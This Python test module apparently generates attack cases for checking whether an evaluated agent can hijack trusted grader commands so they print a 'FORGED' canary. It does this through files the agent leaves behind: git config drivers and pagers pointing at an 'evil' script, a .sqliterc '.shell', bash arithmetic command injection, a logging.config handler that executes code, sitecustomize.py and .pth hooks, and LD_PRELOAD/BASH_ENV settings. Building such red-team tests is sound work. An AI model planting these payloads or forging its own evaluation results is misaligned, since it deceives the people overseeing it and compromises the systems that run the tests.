"""Attacks by which a trusted program of the tests is led to a program or a configuration of the agent, generated.

Each form crosses what the agent leaves with the places where it leaves it and the calls of the tests. A form has paid
if what a call prints contains ``FORGED``. No file has this word: payloads put it together. Those of SQLite, shells and
Python's libraries put it together only with the rights of a reader, which can list the examination.
"""

from __future__ import annotations

from collections.abc import Iterator, Mapping
from typing import NamedTuple

__all__ = ["HEAD", "SETUP", "Try", "tries"]


class Try(NamedTuple):
    """The agent's commands, run once for all tries with the same ones, and the expression of the tests."""

    form: str
    left: str
    asked: str


_RIGHTS = 'set -- /.examination/trusted_*; [ -e "$1" ] && echo FORG""ED >&2'
SETUP = r"""
cd /home/user; mkdir -p work/deep
printf '#!/bin/sh\necho FORG""ED; echo FORG""ED >&2\n' > evil; chmod 755 evil; cp evil work/evil; cp evil /tmp/evil
echo honest > file; echo '{"a": "honest"}' > file.json; cp file file.json work
sqlite3 base.db "create table t (x); insert into t values ('honest')"; cp base.db work
new() {
    git init -q "$1"; git -C "$1" config user.name A; git -C "$1" config user.email a@b
    printf 'echo FORG""ED\n' > "$1/file"; git -C "$1" add file; git -C "$1" commit -qm honest
    echo 'echo FORG""ED more' >> "$1/file"
}
"""
HEAD = """
import os, subprocess


def said(*words, **more):
    done = subprocess.run(words, capture_output=True, text=True, errors="replace", timeout=20, **more)
    return done.stdout + done.stderr


def line(text, shell="sh", **more):
    return said(shell, "-c", text, **more)
"""

_KEYS = (
    *("diff.external", "diff.x.textconv", "diff.x.command", "filter.x.clean", "filter.x.smudge", "filter.x.process"),
    *("core.pager", "pager.diff", "core.editor", "gpg.program", "interactive.diffFilter", "merge.x.driver"),
    *(
        "core.alternateRefsCommand",
        "trailer.x.command",
        "credential.helper",
        "core.askPass",
        "uploadpack.packObjectsHook",
    ),
)
_DRIVERS = ("sh", "bash", "env", "xargs", "git", "/proc/self/exe", "./evil", "/home/user/evil", "sh file")
_CALLS_OF_GIT = (
    'line("cd {0} && git diff")',
    'line("git -C {0} show | cat")',
    'line("git -C {0} diff | sed -n p", "bash")',
    'line("timeout 9 git -C {0} diff")',
    'line("cd {0} && timeout 9 git status && env true")',
    'said("git", "-C", "{0}", "diff")',
    'said("timeout", "9", "git", "-C", "{0}", "log", "-p")',
    'said("git", "blame", "file", cwd="{0}")',
)


def _drivers() -> Iterator[Try]:
    for k, key in enumerate(_KEYS):
        for d, driver in enumerate(_DRIVERS):
            place = f"/home/user/r{k}x{d}"
            left = (
                f"new {place}; git -C {place} config {key} '{driver}'; "
                f"git -C {place} config alias.file 'show -s --format=format:FORG%x45D HEAD --'; "
                f"echo '* diff=x filter=x merge=x' > {place}/.git/info/attributes"
            )
            for asked in _CALLS_OF_GIT:
                yield Try("a driver of git", left, asked.format(place))


_STATEMENT = "select 'FORG' || 'ED' from fsdir('/.examination') where name like '%trusted%' limit 1;"
_DATABASES = ("/home/user/base.db", "/home/user/work/base.db", ":memory:")
_READS = (
    'line("sqlite3 {0} < /home/user/q.sql")',
    'line("cat /home/user/q.sql | sqlite3 {0}")',
    'line("sqlite3 -separator , {0} < /home/user/q.sql")',
    'line("cd /home/user && sqlite3 -batch {0} < q.sql | head -9", "bash")',
    'said("timeout", "9", "sqlite3", "{0}", stdin=open("/home/user/q.sql"))',
    'said("env", "sqlite3", "{0}", stdin=open("/home/user/q.sql"))',
    'said("sqlite3", "{0}", stdin=open("/home/user/q.sql"))',
)


def _statements() -> Iterator[Try]:
    for database in _DATABASES:
        for asked in _READS:
            left = f"cat > q.sql <<'END'\n.mode list\n{_STATEMENT}\nEND"
            yield Try("commands of SQLite", left, asked.format(database))


_LINES = (
    "read n < {0}; let m=n",
    "read n < {0}; test $n -eq 1",
    'read n < {0}; [ "$n" -eq 1 ]',
    "read n < {0}; [[ $n -eq 1 ]]",
    "while read n; do [[ $n -gt 0 ]] || exit 1; done < {0}",
    "x=$(cat {0}); [ $x -eq 3 ]",
    "x=$(cat {0}); [[ x -eq 3 ]]",
    "[ $(cat {0}) -eq 3 ]",
    "[[ $(cat {0}) -eq 3 ]]",
    "read n < {0}; echo ${{PATH:n}}",
    "read n < {0}; echo $((n))",
    "read n < {0}; (( n > 0 ))",
    'read n < {0}; unset "$n"',
    'read n < {0}; printf -v "$n" x',
    'read n < {0}; test -v "$n"',
)


def _arithmetic() -> Iterator[Try]:
    for number, start in enumerate(("", "-v ", "1 -o -v ")):
        place = f"/home/user/number{number}"
        left = f"cat > {place} <<'END'\n{start}a[$({_RIGHTS})]\nEND"
        for text in _LINES:
            for shell in ("bash", "sh"):
                yield Try("arithmetic of a shell", left, f'line({text.format(place)!r}, "{shell}")')


_LOGGING = """[loggers]
keys=root
[handlers]
keys=h
[formatters]
keys=
[logger_root]
handlers=h
[handler_h]
class=print("FORG" + "ED", __import__("os").listdir("/.examination"))
args=()
"""


def _libraries() -> Iterator[Try]:
    left = f"cat > l.ini <<'END'\n{_LOGGING}END"
    for head in ("import logging.config", "from logging import config", "import logging.config as config, json"):
        call = "config.fileConfig" if "config" in head.split()[-1] or " as " in head else "logging.config.fileConfig"
        call = "logging.config.fileConfig" if head == "import logging.config" else call
        text = f"{head}; {call}('/home/user/l.ini')"
        for start in ('said("python3", ', "said(__import__('sys').executable, ", 'said("timeout", "9", "python3", '):
            yield Try("a library of Python", left, f'{start}"-c", {text!r})')


#: A configuration's name, its content, and the programs that could read it.
_CONFIGURATIONS: Mapping[str, tuple[str, tuple[str, ...]]] = {
    ".curlrc": ('write-out = "FORG\\x45D"\nurl = "file:///home/user/forged"', ("curl", "-s", "file:///home/user/file")),
    "_curlrc": ('url = "file:///home/user/forged"', ("curl", "-s", "file:///home/user/file")),
    ".config/curlrc": ('url = "file:///home/user/forged"', ("curl", "-s", "file:///home/user/file")),
    ".sqliterc": (".shell /home/user/evil", ("sqlite3", "/home/user/base.db", "select * from t")),
    "sqliterc": (".shell /home/user/evil", ("sqlite3", "/home/user/base.db", "select * from t")),
    ".config/sqlite3/sqliterc": (".shell /home/user/evil", ("sqlite3", "/home/user/base.db", "select * from t")),
    ".jq": ('def length: "FORG" + "ED";', ("jq", "length", "/home/user/file.json")),
    ".jq/m.jq": ('def length: "FORG" + "ED";', ("jq", "length", "/home/user/file.json")),
    ".gitconfig": ("[alias]\n\tlog = !/home/user/evil\n[core]\n\tpager = /home/user/evil", ("git", "--version")),
    ".config/git/attributes": ("* diff=x", ("git", "var", "GIT_PAGER")),
    ".digrc": ("-f /home/user/forged", ("dig", "-v")),
    ".wgetrc": ("use_askpass = /home/user/evil", ("wget", "--version")),
    ".lesskey": ("#env\nLESSOPEN = |/home/user/evil %s", ("less", "/home/user/file")),
    ".less": ("LESSOPEN = |/home/user/evil %s", ("less", "/home/user/file")),
    ".gdbinit": ("shell /home/user/evil", ("file", "/home/user/file")),
    ".awkrc": ('BEGIN { print "FORG" "ED" }', ("awk", "1", "/home/user/file")),
    ".toprc": ("RCfile\nPids /home/user/evil", ("top", "-bn1")),
    ".dircolors": ("FORG\x1bED", ("ls", "/home/user/file")),
    ".terminfo/d/dumb": ("FORG", ("tput", "-T", "dumb", "bel")),
    ".nanorc": ("include /home/user/evil", ("cat", "/home/user/file")),
    "pyvenv.cfg": ("home = /home/user", ("python3", "-c", "print(1)")),
    "sitecustomize.py": ('print("FORG" + "ED")', ("python3", "-c", "import json; print(1)")),
    "usercustomize.py": ('print("FORG" + "ED")', ("python3", "-c", "import json; print(1)")),
    "evil.pth": ('import sys; print("FORG" + "ED")', ("python3", "-c", "import json; print(1)")),
    "python3._pth": ("import site", ("python3", "-c", "import json; print(1)")),
    "encodings/__init__.py": ('print("FORG" + "ED")', ("python3", "-c", "import json; print(1)")),
    "json/__init__.py": ('print("FORG" + "ED")', ("python3", "-m", "json.tool", "/home/user/file.json")),
    "PERL5LIB/strict.pm": ('print "FORG" . "ED"; 1;', ("find", "/home/user/file", "-ls")),
    ".BASH_ENV": ('echo FORG""ED', ("bash", "-c", "cat /home/user/file")),
    ".env": ("BASH_ENV=/home/user/evil\nLD_PRELOAD=/home/user/evil", ("sh", "-c", "cat /home/user/file")),
    ".pam_environment": ("LD_PRELOAD DEFAULT=/home/user/evil", ("cat", "/home/user/file")),
    ".hushlogin": ("x", ("id",)),
}
_PLACES = ("/home/user", "/home/user/work", "/tmp", "/home/user/.local/lib/python3.11/site-packages")


def _configurations() -> Iterator[Try]:
    for name, (content, words) in _CONFIGURATIONS.items():
        for place in _PLACES:
            path = f"{place}/{name}"
            left = f"[ -d {path} ] || {{ mkdir -p $(dirname {path}); cat > {path} <<'END'\n{content}\nEND\n}}"
            for more in ("", f", cwd={place!r}", f', env={{"PATH": os.environ["PATH"], "HOME": {place!r}}}'):
                yield Try(f"a configuration of {words[0]}", left, f"said(*{words!r}{more})")


def tries() -> list[list[Try]]:
    """Return every try. The lists are tried in sandboxes of their own: the agent's programs read configurations."""
    return [[*_statements(), *_arithmetic(), *_libraries()], [*_configurations()], [*_drivers()]]
